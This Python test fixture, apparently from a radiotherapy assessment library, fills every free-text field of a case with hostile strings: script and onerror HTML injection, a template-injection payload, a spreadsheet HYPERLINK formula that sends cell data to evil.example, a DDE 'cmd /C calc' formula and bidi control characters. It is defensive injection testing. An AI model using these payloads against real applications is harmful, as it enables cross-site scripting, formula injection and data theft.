"""The hand-made case with names, notes and reasons that mean harm."""

from dataclasses import replace
from datetime import date

from assessments import make_assessment

from RNAssessLib.assessment import Assessment, LesionAssessment
from RNAssessLib.case import ClinicalEvent, EventKind, MappingEntry, PreparedCourse
from RNAssessLib.course.serial import compute_serial
from RNAssessLib.dosimetry.course import compute_course
from RNAssessLib.findings.finding import Status
from RNAssessLib.panel.session.session import ReaderSession

MARKUP = (
    '<img src=x onerror="window.hacked=1"><b>GTV</b>&amp;</script><script>window.hacked=1</script>'
)
TEMPLATE = "{{ constructor.constructor('window.hacked=1')() }} ]]> $x^2$ %{x} \\ \"';--"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"GTV")'
TURNED = "GTV\u202e1V\u2066\u200f"
CONTROL = "a\x00b\x1b[31mred\nnext\r\tlast\x07\x85"
GTV, PTV = f"{MARKUP} {TURNED}", f"{FORMULA} {CONTROL} {TEMPLATE}"
CASE = f"-2+3 {TURNED}<i>case</i>"
REASON = f"+cmd|' /C calc'!A0 {MARKUP} {CONTROL}"
DRUG = f"@SUM(1+1)*{MARKUP}"
TEXT = f"\t=1+1 {TEMPLATE} {TURNED}"
NAMES = {"GTV1": GTV, "PTV1": PTV}


def make_hostile(visits: int = 2) -> Assessment:
    """Return the assessment of a case whose every free text is hostile."""
    made = make_assessment(visits)
    prepared = made.prepared
    (course,) = prepared.case.courses
    course = replace(
        course,
        targets=tuple(replace(t, name=NAMES[t.name]) for t in course.targets),
        structures=tuple(replace(s, name=NAMES[s.name]) for s in course.structures),
    )
    events = (
        ClinicalEvent(EventKind.TARGETED, date(2025, 3, 1), drug=DRUG),
        ClinicalEvent(EventKind.SYMPTOM, date(2025, 4, 1), text=TEXT),
    )
    case = replace(
        prepared.case, id=CASE, courses=(course,), events=events,
        mapping=(MappingEntry(MARKUP, "T1c", TEXT),), warnings=(f"{REASON} is odd",),
    )  # fmt: skip
    (lesion,) = prepared.lesions
    lesion = replace(lesion, name=course.targets[0].name, targets=course.targets)
    placed = replace(prepared.courses[0], course=course)
    assert isinstance(placed, PreparedCourse)
    prepared = replace(prepared, case=case, courses=(placed,), lesions=(lesion,))
    (assessed,) = made.lesions
    return replace(
        made, prepared=prepared, courses=(compute_course(course),), warnings=case.warnings,
        lesions=(LesionAssessment(lesion, compute_serial(prepared, lesion), assessed.findings),),
    )  # fmt: skip


def hostile_session(assessment: Assessment) -> ReaderSession:
    """Return a reader's work whose reason is hostile."""
    (assessed,) = assessment.lesions
    other = next(s for s in Status if s is not assessed.findings[0].status)
    session = ReaderSession(case_id=assessment.prepared.case.id)
    return session.decide(assessed.lesion.id, assessed.findings[0], other, REASON)
